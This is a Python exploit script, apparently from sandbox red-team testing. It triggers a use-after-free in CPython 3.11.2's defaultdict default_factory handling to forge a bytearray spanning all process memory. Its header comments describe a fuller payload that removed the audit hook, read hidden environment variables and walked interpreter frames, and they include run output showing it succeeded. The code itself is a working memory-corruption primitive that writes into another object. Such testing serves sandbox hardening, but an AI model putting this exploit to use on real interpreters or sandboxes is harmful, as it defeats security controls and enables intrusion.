# family: wall (memory: defaultdict.__missing__ calls default_factory borrowed; the factory, a map's __next__, frees itself)   goal: memory   interpreter: /usr/bin/python3
# (fourteenth wall round, ok_03, as found; its payload past the primitive, which used the
# image's offsets, is replaced by a write into another object, so that plain python3 of any
# 3.11.2 build shows the primitive). The wall: default_factory's setter, deleter and
# defaultdict.__init__ keep the factory they replace (keep_set, keep_del, keep_init).
# ok_03: NEW MEMORY-BUG FAMILY, HOOK IN PLACE: a C callable freed during its own call,
#        through collections.defaultdict's default_factory (borrowed by __missing__):
#        map.__next__ reads lz->func from the freed map after the iterator's __next__
# |
# Family: "self freed under a running C method" (the README's calliter guard closes the
#   same shape for iter(callable, sentinel) only). defdict_missing (Modules/_collections
#   module) calls dd->default_factory with no reference held. The factory is the
#   method-wrapper m.__next__ of a map object m, whose only other reference the program
#   dropped. map_next calls the program's iterator's __next__, which sets
#   dd.default_factory = None: the wrapper is freed, and with it m (a 48-byte block:
#   GC head 16 + refcnt, type, iters, func). Four bytearray(REFILL) of 47 bytes (a
#   48-byte buffer each) take the freed blocks back (no range(): a range object and its
#   iterator are 48-byte blocks too). map_next then reads lz->func from the refilled
#   block: the address of a fake PyByteArrayObject (type BA, size 2**62, start NULL)
#   inside a bytes object, and calls it. BA.__call__ receives the fake as self: a
#   bytearray over all memory. No guard of the wall covers defaultdict or map; no audit
#   event on the way (id() is allowed); `import collections` is allowed.
#   Other holders of a borrowed callable reach the same shape: a property re-initialised
#   from its own getter (property.__init__ may be called again), any C slot that calls
#   a stored callable borrowed.
# Goals reached past the hook (the payload of wall13 ok_06, unchanged offsets: the
#   image's /usr/bin/python3.11 has the same md5 in r13 and r14):
#   - audit hook removed (interp->audit_hooks ob_size = 0);
#   - the process environment beyond the image's (HOSTNAME, HOME: the image sets PATH
#     and LANG only): os.environ was cleared, but libc's environ still points at the
#     stack area the kernel filled; the strings are read up to AT_EXECFN (auxv). New:
#     neither /proc/self/environ (closed by Landlock) nor a module global is needed;
#   - frames and globals of the entrypoint (run_user_code, runner, main).
#   Stopped (printed): /etc/passwd by the file half (Landlock EACCES); os.system('id')
#   by the kernel half (fork EPERM -> 32512); AF_INET socket (EPERM).
# Plain python3 (the image's 3.11.2, same program): the same capture; past it
#   os.system('id') printed uid=10001(sandbox) gid=10001(sandbox) groups=10001(sandbox),
#   /etc/passwd root:x:0:0..., an AF_INET socket, the environment in os.environ.
# Reliability: 5 of 5 runs in the sandbox.
#
# sb-run output (export SAFE_EXEC_IMAGE=safe-exec-sandbox:r14; build/sb-run --full FILE):
#   status: ok   exit_code: 0   
#   duration 58 ms, cpu 26 ms, memory peak 20568 KiB, fresh container
#   --- stdout (701 bytes)
#   BA of 0x4000000000000000 bytes at address 0
#   interp+3552: the interpreter's audit hooks: [function b'hook']
#   audit hook list emptied
#   os.environ: {} | environ strings on the stack: [b'PATH=/usr/local/bin:/usr/bin:/bin', b'HOSTNAME=7bca820bdb06', b'LANG=C.UTF-8', b'HOME=/home/sandbox']
#   frame: run_user_code | globals: /usr/local/lib/safe-exec/entrypoint.py True
#   frame: runner | globals: /usr/local/lib/safe-exec/entrypoint.py True
#   frame: main | globals: /usr/local/lib/safe-exec/entrypoint.py True
#   frame: <module> | globals: None False
#   /etc/passwd -> PermissionError [Errno 13] Permission denied: '/etc/passwd'
#   os.system('id') -> 32512
#   AF_INET socket -> PermissionError [Errno 1] Operation not permitted
#   --- stderr (0 bytes)
#
import sys
import collections
import asyncio   # socket for the last line (a preload part)
keep = []
W = lambda v: v.to_bytes(8, "little")
class BA(bytearray):
    def __call__(self, *args):
        keep.append(self)              # self: the fake bytearray over all memory
        return 0
# a fake bytearray object (PyByteArrayObject: refcnt, type, ob_size, ob_alloc, ob_bytes, ob_start, ob_exports)
FAKEOBJ = W(1 << 40) + W(id(BA)) + W(1 << 62) + W(1 << 62) + W(0) + W(0) + W(1)
holder = bytes(FAKEOBJ)                # its data starts at id(holder) + 32
fake_addr = id(holder) + 32
# the freed map object's 48-byte block: GC head (16), refcnt, type, iters, func -> func = the fake
REFILL = W(0) * 2 + W(1 << 40) + W(id(map)) + W(0) + W(fake_addr)
REFILL = REFILL[:47]                   # bytearray(47) -> a 48-byte buffer
dd = collections.defaultdict()
class It:
    def __iter__(self): return self
    def __next__(self):
        dd.default_factory = None      # drops m.__next__ (borrowed by __missing__), then m itself
        # no range(): a range object and its iterator are 48-byte blocks too
        k1 = bytearray(REFILL); k2 = bytearray(REFILL); k3 = bytearray(REFILL); k4 = bytearray(REFILL)
        keep.extend((k1, k2, k3, k4))
        return 1
it = It()
m = map(print, it)
dd.default_factory = m.__next__
del m
try:
    dd["k"]
except Exception as e:
    print("missing:", type(e).__name__, e)
mem = [k for k in keep if type(k) is BA][0]
print(type(mem).__name__, "of", hex(len(mem)), "bytes at address 0", flush=True)
target = bytearray(b"AAAAAAAA")        # another object's memory, written through the fake
start = int.from_bytes(mem[id(target) + 40:id(target) + 48], "little")   # its ob_start
mem[start] = 0x42
if target[0] == 0x42:
    print("MEMORY-OVERWRITTEN", bytes(target))
